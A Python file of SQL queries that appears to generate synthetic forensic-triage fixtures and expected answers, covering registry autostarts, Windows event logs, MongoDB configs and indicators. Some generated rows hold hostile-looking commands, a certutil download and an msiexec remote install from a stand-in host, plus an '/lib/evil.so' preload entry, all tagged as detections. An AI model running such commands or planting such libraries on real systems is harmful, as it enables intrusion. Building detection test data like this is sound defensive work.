SQL["config_preload"] = """
SELECT '/case/s' || s_suppkey || '/etc/ld.so.preload' AS path,
  CASE WHEN s_suppkey % 10 = 0 THEN 'config_ld_preload' ELSE 'config_posture' END AS event_type,
  CASE WHEN s_suppkey % 10 = 0 THEN 'crit' ELSE 'info' END AS severity,
  CASE WHEN s_suppkey % 10 = 0 THEN 'Libraries forced on every program' ELSE 'ld.so.preload: as it should be' END AS title,
  CASE WHEN s_suppkey % 10 = 0 THEN 'libraries: /lib/evil' || s_suppkey || '.so' ELSE '1 lines read, no risk seen' END AS details,
  CASE WHEN s_suppkey % 10 = 0 THEN 'they are loaded before all others, everywhere' ELSE 'ld.so.preload: as it should be' END AS why,
  CASE WHEN s_suppkey % 10 = 0 THEN 'T1574.006' ELSE '' END AS attck FROM supplier"""
_SERVICES = r"""
sv AS (
  SELECT s_suppkey AS n, '/case/s' || s_suppkey || '/etc/mongod.conf' AS path, s_suppkey % 2 = 0 AS open,
    s_suppkey % 3 AS a, 'bindIp: ' || CASE WHEN s_suppkey % 2 = 0 THEN '0.0.0.0' ELSE '127.0.0.1' END || ' ¦ port: ' ||
      (s_suppkey + 27000) || ' ¦ authorization: ' || CASE WHEN s_suppkey % 3 = 1 THEN 'enabled' ELSE 'not set' END ||
      CASE WHEN s_suppkey % 3 = 0 THEN ' ¦ security block: commented out' ELSE '' END AS details FROM supplier),
svc AS (
  SELECT path, details, CASE WHEN a = 1 THEN CASE WHEN open THEN 'config_bind_all' ELSE 'config_posture' END
      WHEN open THEN 'config_exposed_service' ELSE 'config_no_auth' END AS event_type,
    CASE WHEN a = 1 THEN CASE WHEN open THEN 'med' ELSE 'low' END WHEN open THEN 'crit' ELSE 'high' END AS severity,
    CASE WHEN a = 1 THEN CASE WHEN open THEN 'Service on all interfaces' ELSE 'mongod.conf configuration' END
      WHEN open THEN 'Open service: all interfaces, no login' ELSE 'Service without a login' END AS title,
    CASE WHEN a = 1 THEN CASE WHEN open THEN 'bindIp 0.0.0.0' ELSE 'mongod.conf configuration' END
      WHEN open THEN 'bindIp 0.0.0.0 means all interfaces, and authorization is ' || CASE WHEN a = 0 THEN 'commented out' ELSE 'not enabled' END
      ELSE 'neither authorization nor a key file is set' END AS why,
    CASE WHEN a = 1 THEN CASE WHEN open THEN 'T1190' ELSE '' END WHEN open THEN 'T1190' ELSE 'T1078' END AS attck FROM sv)"""
SQL["config_services"] = (
    f"WITH {_SERVICES} SELECT path, event_type, severity, title, details, why, attck FROM svc"
)
SQL["config_events"] = (
    f"WITH {_SERVICES.strip()}, pl AS ({SQL['config_preload']}) "
    "SELECT event_type, severity, CASE WHEN severity IN ('info', 'low') THEN 'config' ELSE 'config suspicious' END AS tags, "
    "count(*) AS n FROM (SELECT event_type, severity FROM pl UNION ALL SELECT event_type, severity FROM svc) GROUP BY 1, 2, 3"
)
_WIN = _FACTS + r""",
w0 AS (
  SELECT *, 'u' || user_id AS u, CASE k % 4 WHEN 0 THEN 'C:\Users\u' || user_id || '\AppData\Local\qXzRt7Kp\node.exe'
      WHEN 1 THEN 'C:\Users\u' || user_id || '\AppData\Local\Vendor\tool' || k || '.exe'
      WHEN 2 THEN 'C:\Windows\System32\whoami.exe' ELSE 'C:\Program Files\Office\winword.exe' END AS image,
    CASE WHEN k % 3 = 0 THEN 'C:\Windows\System32\cmd.exe' ELSE 'C:\Windows\explorer.exe' END AS parent,
    event_type = 'click' AND k % 5 = 0 AS cert, event_type = 'click' AND k % 4 < 2 AS own,
    event_type = 'click' AND k % 4 < 2 AND k % 3 = 0 AS dropper, event_type = 'click' AND k % 4 = 2 AS who,
    event_type = 'purchase' AND k % 3 = 0 AS churn FROM f),
w1 AS (
  SELECT *, CASE event_type WHEN 'click' THEN 'process_created' WHEN 'error' THEN 'logon_failed'
      WHEN 'purchase' THEN 'service_installed' WHEN 'signup' THEN 'scheduled_task_created' ELSE 'windows_event' END AS kind,
    CASE event_type
      WHEN 'click' THEN CASE WHEN k % 4 = 0 OR dropper OR cert THEN 'high' WHEN k % 4 = 1 THEN 'med' WHEN who THEN 'low' ELSE 'info' END
      WHEN 'purchase' THEN CASE k % 3 WHEN 0 THEN 'info' WHEN 1 THEN 'crit' ELSE 'high' END
      WHEN 'signup' THEN CASE k % 2 WHEN 0 THEN 'low' ELSE 'high' END ELSE 'info' END AS severity,
    CASE event_type WHEN 'purchase' THEN 'Service Control Manager' WHEN 'view' THEN 'Acme-Agent-' || (k % 2)
      ELSE 'Microsoft-Windows-Security-Auditing' END AS prov,
    strftime(ts, '%Y-%m-%dT%H:%M:%S.%f') || 'Z' AS iso FROM w0),
w2 AS (
  SELECT *, CASE event_type
    WHEN 'click' THEN 'SubjectUserName: ' || u || CASE WHEN cert THEN ' ¦ CommandLine: certutil -urlcache -f http://h/' || k ELSE '' END ||
      ' ¦ NewProcessName: ' || image || ' ¦ ParentProcessName: ' || parent
    WHEN 'error' THEN 'TargetUserName: ' || u || ' ¦ IpAddress: ::ffff:10.2.0.' || k || ' ¦ Status: 0xC000006A (bad password) ¦ LogonType: 3 (Network)'
    WHEN 'purchase' THEN 'ImagePath: ' || CASE k % 3 WHEN 0 THEN 'C:\Windows\System32\svchost.exe -k UnistackSvcGroup'
        WHEN 1 THEN 'C:\ProgramData\Stuff\run.exe' ELSE 'C:\Tools\agent.exe' END || ' ¦ ServiceName: ' ||
        CASE k % 3 WHEN 0 THEN 'cdpsvc_' || lower(to_hex(k + 65536)) ELSE 'svc' || k END
    WHEN 'signup' THEN 'SubjectUserName: ' || u || ' ¦ TaskName: ' || CASE k % 2 WHEN 0 THEN '\Microsoft\Windows\Defrag\Job' ELSE '\Backup' || k END
    ELSE 'Hashes: MD5=' || upper(md5(CAST(k AS VARCHAR))) || ',X=1 ¦ param2: ' || k || ' ¦ param10: ten' END ||
    ' ¦ Provider_Name: ' || prov || ' ¦ TimeCreated_SystemTime: ' || iso AS details FROM w1)"""
SQL["windows_events"] = f"""WITH {_WIN}
SELECT {_WIN_ID} AS id, us AS ts_epoch, kind AS event_type, severity, 'PC' || (user_id % 9) AS host,
  CASE WHEN event_type IN ('click', 'error', 'signup') THEN u ELSE '' END AS "user",
  CASE event_type WHEN 'purchase' THEN 'System' WHEN 'view' THEN 'Acme/Operational' ELSE 'Security' END AS channel,
  CAST(event_id AS VARCHAR) AS record_id,
  concat_ws(' ',
    CASE WHEN own THEN 'unusual_exec_path' END, CASE WHEN dropper THEN 'script_host_dropper' END, CASE WHEN who THEN 'recon' END,
    CASE WHEN event_type = 'purchase' THEN CASE k % 3 WHEN 0 THEN 'os_churn' ELSE 'unusual_exec_path' END END,
    CASE WHEN event_type = 'signup' AND k % 2 = 0 THEN 'routine_vendor' END,
    CASE WHEN event_type = 'click' AND severity = 'high' THEN 'suspicious' END, 'auto_fields') AS tags,
  concat_ws(' ', CASE event_type WHEN 'click' THEN 'T1059' WHEN 'error' THEN 'T1110' WHEN 'purchase' THEN 'T1543.003' WHEN 'signup' THEN 'T1053.005' END,
    CASE WHEN cert THEN 'T1140' END, CASE WHEN who THEN 'T1087' END, CASE WHEN own AND k % 4 = 0 THEN 'T1036' END) AS attck,
  coalesce(CASE event_type
    WHEN 'click' THEN concat_ws('; ', CASE WHEN own AND k % 4 = 0 THEN 'started in a folder users can write to, named as if by a machine (qXzRt7Kp)'
        WHEN own THEN 'started in a folder users can write to' END,
      CASE WHEN dropper THEN 'cmd.exe started a program in a folder users can write to' END,
      CASE WHEN who THEN 'looks around: account enumeration' END)
    WHEN 'purchase' THEN CASE k % 3 WHEN 0 THEN 'a copy of a system service made for each logon (cdpsvc_*)'
      WHEN 1 THEN 'the service lies in a folder users can write to' ELSE 'the service lies outside the places programs are installed in' END
    WHEN 'signup' THEN CASE k % 2 WHEN 0 THEN 'the task stands in a vendor folder' ELSE 'the task stands in no vendor folder' END END, '') AS why,
  details,
  CASE WHEN event_type = 'error' THEN '10.2.0.' || k ELSE '' END AS ip_address,
  CASE WHEN event_type = 'view' THEN md5(CAST(k AS VARCHAR)) ELSE '' END AS md5,
  'EventID ' || CASE event_type WHEN 'click' THEN '4688' WHEN 'error' THEN '4625' WHEN 'purchase' THEN '7045' WHEN 'signup' THEN '4698'
    ELSE CAST(k % 3 + 100 AS VARCHAR) END || ' — ' || CASE event_type WHEN 'purchase' THEN 'Service Control Manager'
    WHEN 'view' THEN 'Acme-Agent-' || (k % 2) ELSE 'Microsoft-Windows-Security-Auditing' END || ' (no template)' AS title,
  CASE WHEN event_type = 'purchase' THEN 'evtx/System' ELSE 'evtx/Security' END AS source_artifact FROM w2"""
SQL["windows_templates"] = f"""WITH {_WIN}
SELECT {_WIN_ID} AS id, 'Logon failed' AS title, 'TgtUser: ' || u || ' ¦ SrcIP: 10.2.0.' || k || ' ¦ Why: 0xC000006A (bad password)' AS details,
  'LogonType: 3 (Network) ¦ Provider_Name: ' || prov || ' ¦ TimeCreated_SystemTime: ' || iso AS extra_fields, '' AS tags
FROM w2 WHERE event_type = 'error'"""
SQL["detail_labels"] = f"""WITH {_WIN}
SELECT regexp_extract(p, '^[^:]*', 0) AS label, count(*) AS n FROM (SELECT unnest(string_split(details, ' ¦ ')) AS p FROM w2) GROUP BY 1"""
SQL["registry_hives"] = """
SELECT '/case/p' || q || '/config/HIVE' AS artifact_path, '2024-02-01 00:00:00' AS ts, 'HIVE: ' || h || ' hive ingested' AS message
FROM (SELECT DISTINCT p_partkey % 4 AS q, CASE p_partkey % 8 WHEN 0 THEN 'software' WHEN 4 THEN 'ntuser' WHEN 5 THEN 'ntuser'
  WHEN 6 THEN 'amcache' ELSE 'system' END AS h FROM part)"""
SQL["registry_events"] = r"""
WITH p AS (SELECT p_partkey AS key, p_partkey % 8 AS s, strftime(make_timestamp((1704067200 + p_partkey * 60) * 1000000), '%Y-%m-%d %H:%M:%S') AS ts FROM part),
x AS (
  SELECT key * 4 + 1 AS v, ts, 'autostart_run_key' AS event_type,
    CASE key % 3 WHEN 0 THEN 'crit' WHEN 1 THEN 'low' ELSE 'high' END AS severity,
    'autostart run key: v' || key || ' = ' || CASE key % 3 WHEN 0 THEN 'C:\Users\a\AppData\Roaming\qXzRt7Kp\go' || key || '.exe'
      WHEN 1 THEN 'C:\Program Files\Vendor\tray.exe' ELSE 'D:\tools\start.bat' END AS message,
    CASE key % 3 WHEN 0 THEN 'unusual_exec_path random_name' WHEN 1 THEN 'routine_vendor' ELSE '' END AS tags, 'T1547.001' AS attck,
    'software' AS hive, CASE key % 3 WHEN 0 THEN 'the autostart points into a folder users can write to; looks named by a machine (qXzRt7Kp)'
      WHEN 1 THEN 'the autostart points to an installed program'
      ELSE 'the autostart points outside the places programs are installed in; it is a script, a shell or a temporary file' END AS why,
    '' AS utc_offset, '' AS sha1 FROM p WHERE s = 0
  UNION ALL SELECT key * 4 + 1, ts, 'system_timezone', 'info', 'system timezone: ActiveTimeBias = 300', '', '', 'system', '', 'UTC-05:00', '' FROM p WHERE s = 1
  UNION ALL SELECT key * 4 + 2, ts, 'system_timezone', 'info', 'system timezone: StandardName = @tzres.dll,-162', '', '', 'system', '', '', '' FROM p WHERE s = 1
  UNION ALL SELECT key * 4 + 1, ts, 'computer_name', 'info', 'computer name: ComputerName = PC-' || key, '', '', 'system', '', '', '' FROM p WHERE s = 2
  UNION ALL SELECT key * 4 + 1, ts, 'service_list', CASE WHEN key % 2 = 0 THEN 'high' ELSE 'info' END,
    CASE WHEN key % 2 = 0 THEN 'suspicious service: svc' || key || ' -> C:\Windows\Temp\a.exe' ELSE 'service: svc' || key || ' -> system32\b.sys' END,
    '', 'T1543.003', 'system', '', '', '' FROM p WHERE s = 3
  UNION ALL SELECT key * 4 + 1, ts, 'userassist_exec', 'info', 'userassist exec: C:\Tools\' || key || ' = 0100', '', 'T1204.002', 'ntuser', '', '', '' FROM p WHERE s = 4
  UNION ALL SELECT key * 4 + 1, ts, 'run_mru', CASE WHEN key % 2 = 0 THEN 'high' ELSE 'med' END,
    'run mru: a = ' || CASE WHEN key % 2 = 0 THEN 'msiexec /i http:\\h' || key || '\x.msi' ELSE 'cmd' END,
    CASE WHEN key % 2 = 0 THEN 'pasted_command suspicious' ELSE '' END, CASE WHEN key % 2 = 0 THEN 'T1059 T1204.004' ELSE 'T1059' END,
    'ntuser', '', '', '' FROM p WHERE s = 5
  UNION ALL SELECT key * 4 + 1, ts, 'amcache_exec', 'med', 'amcache: c:\tools\' || key || '.exe', '', 'T1204', 'amcache', '', '',
    sha1(CAST(key AS VARCHAR)) FROM p WHERE s = 6
  UNION ALL SELECT key * 4 + 1, ts, 'usb_device', 'med', 'USB device: Disk&Ven_' || key, '', 'T1091', 'system', '', '', '' FROM p WHERE s = 7)
SELECT __HIVE__ AS id, ts, event_type, severity, message, tags, attck, 'registry/' || hive AS source_artifact, why, utc_offset, sha1 FROM x""".replace("__HIVE__", _HIVE_ID)
SQL["case_context"] = r"""
SELECT '-05:00' AS zone, 'registry ActiveTimeBias (UTC-05:00)' AS zone_source, 'PC-' || min(p_partkey) FILTER (p_partkey % 8 = 2) AS host,
  'registry ComputerName' AS host_source, CAST(year(make_timestamp(greatest(1704067200 + max(p_partkey) * 60, 1706745600) * 1000000)) AS BIGINT) AS year,
  'latest event in artifacts with absolute timestamps' AS year_source, 0 AS notes FROM part"""

# --- files: kind from the first 512 bytes ---
_KINDS = _FILES + """,
head AS (
  SELECT path, content, body, octet_length(content) AS size, least(512, octet_length(content)) AS n,
    list_sum(list_transform(range(1, least(512, octet_length(content)) + 1), lambda i: CASE WHEN
      hex(content[i:i]) BETWEEN '20' AND '7E' OR hex(content[i:i]) BETWEEN '09' AND '0D' THEN 1 ELSE 0 END)) AS good
  FROM files),
ki AS (
  SELECT *, CASE WHEN path LIKE '%.bin' THEN 'elf' WHEN size = 0 THEN 'empty'
    WHEN good / n > 0.85 THEN 'text' ELSE 'binary' END AS kind FROM head),
st AS (
  SELECT *, CASE WHEN path LIKE '%bash_history' THEN 'shell_history' WHEN path LIKE '%/passwd' THEN 'linux_config'
      WHEN path LIKE '%auth.log.%' THEN 'linux_syslog' WHEN path LIKE '%.pem' THEN '' WHEN kind = 'text' THEN 'generic_text'
      ELSE '' END AS parser FROM ki),
sx AS (
  SELECT *, CASE parser WHEN 'shell_history' THEN 0.85 WHEN 'linux_config' THEN 0.75 WHEN 'linux_syslog' THEN 0.7
    WHEN 'generic_text' THEN 0.2 ELSE 0.0 END AS confidence,
    CASE WHEN parser = '' THEN 'unsupported' ELSE 'parsed' END AS status,
    CASE WHEN parser = '' THEN 0 ELSE size % 3 + 1 END AS event_count FROM st)"""
SQL["inventory"] = f"WITH {_KINDS} SELECT path, sha256(content) AS sha256, kind, size FROM sx"
SQL["route"] = f"WITH {_KINDS} SELECT path, parser, confidence FROM sx"
SQL["stored_inventory"] = f"WITH {_KINDS} SELECT path, sha256(content) AS sha256, kind, size, parser FROM sx"
SQL["signature_chunks"] = (
    f"WITH {_FILES}, pg AS (SELECT path AS page_id, coalesce(body, '') AS html FROM files), "
    + _SIGNS.format(table="pg").strip() + " SELECT page_id AS path, rule, severity, strings FROM hit"
)
SQL["artifact_errors"] = """
WITH n AS (
  SELECT doc_id, coalesce(text, '') AS t, encode(coalesce(text, '')) AS b, doc_id % 5 = 0 AS packed FROM documents),
h AS (
  SELECT *, least(512, octet_length(b)) AS size, list_sum(list_transform(range(1, least(512, octet_length(b)) + 1), lambda i:
    CASE WHEN hex(b[i:i]) BETWEEN '20' AND '7E' OR hex(b[i:i]) BETWEEN '09' AND '0D' THEN 1 ELSE 0 END)) AS good FROM n),
s AS (SELECT *, size > 0 AND good / size > 0.85 AS read FROM h)
SELECT CASE WHEN packed THEN '/case/packed/.n' || doc_id || '.gz' ELSE '/case/notes/_' || doc_id || '.txt' END AS path,
  CASE WHEN NOT read THEN 'unsupported' WHEN packed THEN 'error' ELSE 'parsed' END AS status,
  CASE WHEN read AND NOT packed THEN len(string_split(t, chr(10))) - CASE WHEN t LIKE '%' || chr(10) THEN 1 ELSE 0 END
    ELSE 0 END::BIGINT AS event_count,
  CASE WHEN read AND packed THEN 'BadGzipFile' ELSE '' END AS error FROM s"""
SQL["event_files"] = f"WITH {_KINDS} SELECT kind, count(*) AS n, CAST(sum(size) AS BIGINT) AS bytes FROM sx GROUP BY 1"
SQL["artifact_status"] = f"WITH {_KINDS} SELECT path, status, event_count FROM sx"
SQL["sweepings"] = f"""WITH {_KINDS} SELECT count(*) FILTER (path LIKE '%.pem') AS sweepings,
  count(*) FILTER (path NOT LIKE '%.pem') AS gaps FROM sx WHERE status = 'unsupported'"""
SQL["not_parsed_by_type"] = f"""WITH {_KINDS} SELECT '.' || regexp_extract(path, '[^.]*$', 0) AS extension,
  count(*) AS files, max(size) AS largest FROM sx WHERE status = 'unsupported' AND path NOT LIKE '%.pem' GROUP BY 1"""
SQL["largest_unparsed"] = f"""WITH {_KINDS} SELECT regexp_extract(path, '[^/]*$', 0) AS name, size, status FROM sx
  WHERE status = 'unsupported' AND path NOT LIKE '%.pem' AND size > 1000 ORDER BY size DESC, name LIMIT 8"""
SQL["top_artifacts"] = f"""WITH {_KINDS} SELECT path, event_count FROM sx WHERE status = 'parsed'
  ORDER BY event_count DESC, path LIMIT 20"""
SQL["case_summary"] = f"""WITH {_KINDS}, {_HITS.strip()}, {_FANG.strip()},
tab AS (SELECT type, value, arg_min(tags, doc_id) AS tags FROM ind GROUP BY 1, 2)
SELECT (SELECT count(*) FROM sx WHERE status = 'parsed') AS parsed,
  (SELECT count(*) FROM sx WHERE status = 'unsupported') AS unsupported, 0 AS errors,
  (SELECT count(*) FROM ev) AS events, (SELECT count(*) FROM ev WHERE sev_rank >= 3) AS high_events,
  (SELECT count(*) FROM h) AS detections, (SELECT count(*) FROM tab) AS indicators,
  (SELECT count(*) FROM tab WHERE NOT regexp_matches(tags, 'private|allowlisted|loopback|reserved')) AS interesting_indicators"""

# --- context and answers ---
SQL["activity_window"] = app("""
SELECT min(tst) AS first_seen, max(tst) AS last_seen, CAST(year(max(ts)) AS BIGINT) AS year,
  'latest event in artifacts with absolute timestamps' AS year_source FROM ev""")
SQL["case_year"] = facts("""
SELECT strftime(min(utc), '%Y-%m-%d %H:%M:%S') AS first_seen, strftime(max(utc), '%Y-%m-%d %H:%M:%S') AS last_seen,
  CAST(year(max(utc)) AS BIGINT) AS year, 'latest event in artifacts with absolute timestamps' AS year_source
FROM (SELECT ts - CASE WHEN user_id % 5 < 3 THEN INTERVAL 1 HOUR ELSE INTERVAL 2 HOUR END AS utc FROM f WHERE k % 20 <> 7)""")
SQL["most_common_host"] = app(
    "SELECT host, count(*) AS n FROM ev GROUP BY 1 ORDER BY n DESC, host LIMIT 1"
)
SQL["answers"] = facts("""
SELECT CAST(k AS VARCHAR) AS answer, count(*) AS n, min(us) AS first_at, arg_min(event_id, (us, event_id)) AS first_id,
  round(least(0.97, 0.8 * CASE WHEN (SELECT count(DISTINCT k) FROM f) = 1 THEN 1.0
    ELSE greatest(0.45, 1.0 - ((SELECT count(DISTINCT k) FROM f) - 1) * 0.12) END), 2) AS confidence
FROM f GROUP BY 1 ORDER BY n DESC, answer LIMIT 5""")
SQL["answers_first"] = facts("""
SELECT event_type AS answer, count(*) AS n, min(us) AS first_at, arg_min(event_id, (us, event_id)) AS first_id,
  round(least(0.97, 0.6 * CASE WHEN (SELECT count(DISTINCT event_type) FROM f) = 1 THEN 1.0
    ELSE greatest(0.45, 1.0 - ((SELECT count(DISTINCT event_type) FROM f) - 1) * 0.12) END), 2) AS confidence
FROM f GROUP BY 1 ORDER BY first_at, first_id LIMIT 5""")

_ADDRESSED = """,
al AS (SELECT event_id, k, user_id, '2001:db8:' || lower(to_hex(user_id % 30)) || ':' || lower(to_hex(k)) || ':0:0:0:1' AS six,
  '10.' || (k % 4) || '.' || (user_id % 20) || '.' || k AS four, 'fe80:0:0:0:0:0:0:' || lower(to_hex(k + 1)) AS here FROM f),
ad AS (SELECT event_id AS doc_id, 'ipv4' AS type, four AS value, k, user_id FROM al
  UNION ALL SELECT event_id, 'ipv6', six, k, user_id FROM al UNION ALL SELECT event_id, 'ipv6', here, k, -1 FROM al WHERE k % 10 = 0)"""
SQL["indicators_ipv6"] = f"WITH {_FACTS}{_ADDRESSED} SELECT doc_id, value, 'private' AS tags FROM ad WHERE type = 'ipv6'"
SQL["indicator_networks"] = f"""WITH {_FACTS}{_ADDRESSED},
wide AS (SELECT s_suppkey % 8 AS a, min(s_name) AS label FROM supplier GROUP BY 1),
narrow AS (SELECT s_suppkey % 4 AS a, s_suppkey % 256 AS b, min(s_name) AS label FROM supplier GROUP BY 1, 2)
SELECT doc_id, type, value, coalesce(CASE WHEN type = 'ipv6' THEN s.s_name ELSE coalesce(narrow.label, wide.label) END, '') AS network
FROM ad LEFT JOIN wide ON type = 'ipv4' AND wide.a = k % 4 LEFT JOIN narrow ON type = 'ipv4' AND narrow.a = k % 4 AND narrow.b = user_id % 20
  LEFT JOIN supplier s ON type = 'ipv6' AND user_id >= 0 AND s.s_suppkey = user_id % 30"""
SQL["indicator_allowlist"] = r"""
WITH u AS (SELECT page_id, regexp_replace(regexp_extract(url, '(?i)\b(?:https?|ftps?)://[^\s"''<>\\)\]}]+', 0), '[.,;:)\]}"'']+$', '') AS value FROM pages)
SELECT page_id, 'url' AS type, value, CASE WHEN EXISTS (SELECT 1 FROM pages WHERE contains(url, 'example.com')) AND
  regexp_matches(lower(value), '^[a-z]+://([^/:?#]*\.)?example\.com([/:?#]|$)') THEN 'allowlisted' ELSE '' END AS tags FROM u WHERE value <> ''"""

# --- exports ---
SQL["timeline_rows"] = app("""
SELECT tst AS "Timestamp", severity AS "Level", title AS "Title", host AS "Host", channel AS "Channel", eid AS "EventID",
  "user" AS "User", details AS "Details", event_type AS "Type", 'Logged' AS "TimestampDesc", attck AS "ATTCK", tags AS "Tags",
  source_artifact AS "Source", '' AS "RecordId", '' AS "ExtraFields", '' AS "ArtifactPath", CAST(id AS VARCHAR) AS "Id" FROM ev""")
SQL["written_events"] = app("""
SELECT strftime(ts, '%Y-%m-%d') AS day, count(*) AS n, count(DISTINCT id) AS ids,
  count(*) FILTER (ts >= TIMESTAMP '2024-01-16') AS replaced, min(ts_epoch) AS first_us, max(ts_epoch) AS last_us, 1 AS few_files
FROM ev GROUP BY 1""")
SQL["exported_json"] = app("SELECT id, tst AS ts, event_type, severity, message FROM ev")
SQL["triage_rows"] = app("""
SELECT CAST(id AS VARCHAR) AS "Id", severity AS "Level", title AS "Title", details AS "Details" FROM ev WHERE sev_rank >= 2""")
SQL["timesketch_rows"] = app("""
SELECT message, replace(tst, ' ', 'T') || 'Z' AS datetime, 'Logged' AS timestamp_desc, event_type AS data_type, host, "user",
  source_artifact AS source, tags AS tag, attck, severity FROM ev""")
SQL["l2t_rows"] = app("""
SELECT strftime(ts, '%m/%d/%Y') AS date, strftime(ts, '%H:%M:%S') AS time, 'UTC' AS timezone, '....' AS "MACB", parser AS source,
  source_artifact AS sourcetype, 'Logged' AS type, "user", host, left(message, 80) AS short, message AS "desc", '2' AS version,
  '' AS filename, '-' AS inode, attck AS notes, parser AS format FROM ev""")

# --- streams: what came behind the watermark is left out ---
_ARRIVED = """,
sl AS (SELECT *, (us - (SELECT min(us) FROM f)) * 6 // ((SELECT max(us) - min(us) FROM f) + 1) AS piece FROM f),
ar AS (SELECT '10.7.0.' || (user_id % 40) AS source, 'u' || (k % 12) AS account, event_id AS line_no, us,
  CASE WHEN event_type IN ('error', 'click') THEN 1 ELSE 0 END AS failed, event_type = 'purchase' AND k % 5 <> 0 AS entered
  FROM sl WHERE NOT (piece < 2 AND k = 99))"""
SQL["stream_logins"] = f"""WITH {_FACTS}{_ARRIVED}
SELECT source, account, line_no, CAST(prior + failed AS BIGINT) AS attempt, CAST(prior AS BIGINT) AS prior_failures,
  CASE WHEN entered AND own > 0 THEN 1 ELSE 0 END AS cracked
FROM (SELECT *, coalesce(sum(failed) OVER (PARTITION BY source ORDER BY us, line_no ROWS BETWEEN UNBOUNDED PRECEDING AND 1 PRECEDING), 0) AS prior,
  coalesce(sum(failed) OVER (PARTITION BY source, account ORDER BY us, line_no ROWS BETWEEN UNBOUNDED PRECEDING AND 1 PRECEDING), 0) AS own
  FROM ar)"""
SQL["stream_sessions"] = f"""WITH {_FACTS}{_ARRIVED},
g AS (SELECT *, CASE WHEN us - lag(us) OVER (PARTITION BY source ORDER BY us) <= 21600000000 THEN 0 ELSE 1 END AS new FROM ar),
n AS (SELECT *, sum(new) OVER (PARTITION BY source ORDER BY us ROWS UNBOUNDED PRECEDING) AS session FROM g)
SELECT source, count(*) AS connections, min(us) AS first_us, max(us) AS last_us FROM n GROUP BY source, session HAVING count(*) >= 2"""

# Ids of all normalizers in one table: as many as rows.
_COUNTED = {
    "linux_syslog": "syslog_events", "mongodb": "mongod_events", "shell_history": "history_events",
    "evtx": "windows_events", "registry": "registry_events", "generic_text": "web_log_lines",
    "untimed": "untimed_blocks",
}
# The untimed lines of a file become a row for each block of 16 KB.
_BLOCKS = facts("""
SELECT DISTINCT web, folder, b // 16384 AS block FROM (
  SELECT user_id % 5 < 3 AS web, user_id % 5 AS folder, coalesce(sum(length('-- note ' || k || ' --')) OVER (
    PARTITION BY user_id % 5 ORDER BY event_id ROWS BETWEEN UNBOUNDED PRECEDING AND 1 PRECEDING), 0) AS b
  FROM f WHERE k % 20 = 7)""")
SQL["event_ids"] = "WITH " + ", ".join(
    f"{parser} AS (SELECT count(*) AS n FROM ({_BLOCKS if name == 'untimed_blocks' else SQL[name]}) AS t)"
    for parser, name in _COUNTED.items()
) + " SELECT 'all' AS part, sum(n)::BIGINT AS events, sum(n)::BIGINT AS ids FROM (" + " UNION ALL ".join(
    f"SELECT n FROM {parser}" for parser in _COUNTED
) + ")"
SQL["rarity_of_records"] = (
    f"SELECT event_type, count(*) AS events, count(DISTINCT id) AS ids FROM ({SQL['windows_events']}) AS t GROUP BY 1"
)
